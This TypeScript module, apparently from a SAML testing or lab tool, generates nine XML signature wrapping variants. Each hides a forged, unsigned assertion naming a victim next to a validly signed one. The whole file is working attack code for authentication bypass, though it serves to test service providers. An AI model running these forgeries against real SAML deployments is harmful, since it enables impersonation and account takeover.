import type { SamlAttackVariant, SamlState } from './saml-control.ts'

/**
 * XML signature wrapping (Somorovsky et al., "On Breaking SAML", 2012): adds an unsigned assertion about the victim to a
 * signed response. The signature stays valid, and an incorrect reader mistakes the forged assertion for the signed one.
 */
export function wrapped(xml: string, { attackVariant, nameId, victim }: SamlState): string {
  const assertion = part(xml, 'saml:Assertion')
  const signature = part(assertion, 'Signature')
  const forgedWith = (inside: string) =>
    assertion
      .replace(signature, inside)
      .replace(/ ID="[^"]+"/, ' ID="_forged0123456789"')
      .replace(nameId, victim)
  const forged = forgedWith('')
  const unsigned = assertion.replace(signature, '')
  const replaced = (text: string) => xml.replace(assertion, () => text)
  const variants: Partial<Record<SamlAttackVariant, () => string>> = {
    'wrapped: another assertion before the signed one': () => replaced(forged + assertion),
    'wrapped: another assertion after the signed one': () => replaced(assertion + forged),
    'wrapped: the signed one inside another': () =>
      replaced(forged.replace('</saml:Assertion>', () => `${assertion}</saml:Assertion>`)),
    'wrapped: another with the signature, the signed one at the end': () =>
      replaced(forgedWith(signature) + unsigned),
    'wrapped: the signed one inside the signature of another': () =>
      replaced(forgedWith(signature.replace('</Signature>', () => `${unsigned}</Signature>`))),
    'wrapped: another in the extensions': () =>
      replaced(`<samlp:Extensions>${forged}</samlp:Extensions>${assertion}`),
    'wrapped: the signed one in an object of the signature': () =>
      replaced(
        forgedWith(signature.replace('</Signature>', () => `<Object>${unsigned}</Object></Signature>`)),
      ),
    'wrapped: another of the same ID': () =>
      replaced(forged.replace('_forged0123456789', idOf(assertion)) + assertion),
    'wrapped: a response in a response': () =>
      xml
        .replace(assertion, () => forged)
        .replace('</samlp:Response>', () => `${xml}</samlp:Response>`)
        .replace(/ ID="[^"]+"/, ' ID="_outer0123456789"'),
  }
  const response = attackVariant && variants[attackVariant]?.()
  if (!response?.includes(victim)) throw new Error(`${attackVariant} forged nothing`)
  return response
}

/** The first element of this name, with its content. */
function part(xml: string, name: string): string {
  const [found] = new RegExp(`<${name}[ >][\\s\\S]*?</${name}>`).exec(xml) ?? []
  if (found === undefined) throw new Error(`the response has no ${name}`)
  return found
}

function idOf(element: string): string {
  return / ID="([^"]+)"/.exec(element)?.[1] ?? ''
}
